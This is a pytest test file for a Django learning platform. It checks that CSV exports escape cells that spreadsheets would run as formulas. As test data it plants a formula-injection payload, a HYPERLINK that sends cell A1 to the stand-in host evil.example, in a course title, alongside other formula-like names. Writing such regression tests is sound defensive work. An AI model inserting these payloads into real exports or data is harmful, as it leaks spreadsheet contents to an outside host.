"""Every CSV export neutralises cells that a spreadsheet would run as a formula."""

import pytest

from courses import services
from lms.spreadsheets import safe_cell
from mentoring.models import Mentorship
from tests.factories import (
    ProgramFactory,
    UserFactory,
    lessons_of,
    make_course,
    make_mentee,
    make_mentor,
    right_answers,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def test_formula_starts_are_neutralised_and_other_cells_kept():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    for value in ("Budget", "", 12, None, "a=b"):
        assert safe_cell(value) == value


@pytest.fixture
def poisoned(catalogs):
    course = make_course(catalogs["en"], title=PAYLOAD, lessons=1)
    course.save_revision(log_action=True)  # an entry in site history, labelled with the title
    learner = UserFactory(full_name="@SUM(1+1)")
    services.enrolment_create(user=learner, page=course, language="en")
    lesson = lessons_of(course)[0]
    services.lesson_complete(user=learner, lesson=lesson, language="en")
    services.quiz_submit(user=learner, lesson=lesson, answers=right_answers(lesson), language="en")
    program = ProgramFactory(name_en="+Mentoring 2027", region="europe")
    Mentorship.objects.create(
        program=program, mentor=make_mentor(program).user, mentee=make_mentee(program).user,
        status="active",
    )
    return learner


@pytest.mark.django_db
def test_every_csv_export_is_spreadsheet_safe(client, poisoned):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    exports = {
        "course report": "/admin/reports/courses/?export=csv",
        "mentoring report": "/admin/reports/mentoring/?export=csv",
        "site history": "/admin/reports/site-history/?export=csv",
    }
    bodies = {name: _body(client.get(url)) for name, url in exports.items()}
    client.force_login(poisoned)
    bodies["transcript"] = _body(client.get("/en/dashboard/transcript.csv"))
    assert "'=HYPERLINK" in bodies["course report"]
    assert "'+Mentoring 2027" in bodies["mentoring report"]
    assert "'=HYPERLINK" in bodies["transcript"]
    assert "'=HYPERLINK" in bodies["site history"]
    for name, body in bodies.items():
        for line in body.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@")), (name, line)
